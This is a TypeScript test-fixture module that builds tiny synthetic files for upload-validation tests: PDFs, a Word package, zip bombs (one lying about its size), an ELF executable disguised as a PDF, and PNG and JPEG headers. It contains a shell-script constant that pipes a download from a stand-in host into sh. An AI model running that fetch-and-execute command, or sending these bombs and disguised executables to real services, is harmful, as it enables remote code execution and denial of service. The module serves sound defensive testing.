// Tiny hand-made files for the upload tests, built here byte by byte (never copies of anyone's real files): a
// minimal PDF 1.4 with a cross-reference table and a PDF 2.0 with a cross-reference stream, a minimal Word
// document, zip bombs, a program renamed .pdf, a PNG and a JPEG of a chosen size.
import { crc32, deflateSync } from 'node:zlib';
import { type ZipEntrySpec, zipOf } from './zip-writer.js';

/** A PDF with one empty page: header, four objects, an xref table with their true offsets, trailer, %%EOF. */
export function minimalPdf(version = '1.4'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    '<< /Length 0 >>\nstream\n\nendstream',
  ];
  let text = `%PDF-${version}\n%\u00e2\u00e3\u00cf\u00d3\n`;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) text += `${String(o).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A PDF 2.0 whose cross-reference section is a stream (/Type /XRef), as newer writers make them. */
export function pdfWithXrefStream(): Buffer {
  let text = '%PDF-2.0\n';
  const catalog = Buffer.byteLength(text, 'latin1');
  text += '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';
  const pages = Buffer.byteLength(text, 'latin1');
  text += '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n';
  const xrefAt = Buffer.byteLength(text, 'latin1');
  const rows = [
    [0, 0, 255],
    [1, catalog, 0],
    [1, pages, 0],
    [1, xrefAt, 0],
  ];
  const data = Buffer.concat(
    rows.map(([t, o, g]) => Buffer.from([t ?? 0, ((o ?? 0) >> 8) & 255, (o ?? 0) & 255, g ?? 0])),
  );
  text += `3 0 obj\n<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Length ${data.length} >>\nstream\n`;
  return Buffer.concat([
    Buffer.from(text, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
  ]);
}

/** The first bytes of a 64-bit Linux ELF executable, then filler: what a program renamed résumé.pdf looks like. */
export function elfProgram(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(header);
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(0x3e, 18); // x86-64
  return Buffer.concat([header, Buffer.alloc(4096, 0x90)]);
}

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://example.invalid/x | sh\n', 'utf8');

const CONTENT_TYPES = (mainType: string) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/word/document.xml" ContentType="${mainType}"/>` +
  '</Types>';

export const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
export const DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';

const DOCUMENT =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  '<w:body><w:p><w:r><w:t>Certified professional coder, CPC-A.</w:t></w:r></w:p></w:body></w:document>';

/** The three parts of a minimal Word document; `mainType` changes the declared type, `document` replaces document.xml. */
export function docxEntries(options: { mainType?: string; document?: ZipEntrySpec } = {}): ZipEntrySpec[] {
  return [
    { name: '[Content_Types].xml', data: CONTENT_TYPES(options.mainType ?? DOCX_MAIN) },
    { name: '_rels/.rels', data: RELS },
    options.document ?? { name: 'word/document.xml', data: DOCUMENT },
  ];
}

export function minimalDocx(): Buffer {
  return zipOf(docxEntries());
}

/** A Word-shaped package whose document.xml is 20 MB of one repeated byte, packed about 1000:1, sizes told true. */
export function zipBombDocx(): Buffer {
  return zipOf(docxEntries({ document: { name: 'word/document.xml', data: Buffer.alloc(20 * 1024 * 1024, 0x20) } }));
}

/** The same bomb declaring its document.xml as 60,000 bytes: only inflating finds out. */
export function lyingZipBombDocx(): Buffer {
  return zipOf(
    docxEntries({
      document: { name: 'word/document.xml', data: Buffer.alloc(20 * 1024 * 1024, 0x20), declaredSize: 60_000 },
    }),
  );
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG of the given size (8-bit greyscale); its pixel data is only real for small images. */
export function png(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = width * height <= 65_536 ? height : 1;
  const pixels = deflateSync(Buffer.alloc(rows * (width + 1), 0));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function jpegSegment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

/** A baseline JFIF JPEG header of the given size, a token scan, and EOI (not decodable pixels: not needed). */
export function jpeg(width: number, height: number): Buffer {
  const app0 = Buffer.from([0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]); // "JFIF\0", 1.1, 1:1
  const sof = Buffer.alloc(15);
  sof[0] = 8; // precision
  sof.writeUInt16BE(height, 1);
  sof.writeUInt16BE(width, 3);
  sof[5] = 3; // components
  [1, 2, 3].forEach((id, i) => {
    sof[6 + i * 3] = id;
    sof[7 + i * 3] = i === 0 ? 0x22 : 0x11;
    sof[8 + i * 3] = i === 0 ? 0 : 1;
  });
  const sos = Buffer.from([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 63, 0]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jpegSegment(0xe0, app0),
    jpegSegment(0xc0, sof),
    jpegSegment(0xda, sos),
    Buffer.from([0x12, 0x34, 0x56]),
    Buffer.from([0xff, 0xd9]),
  ]);
}
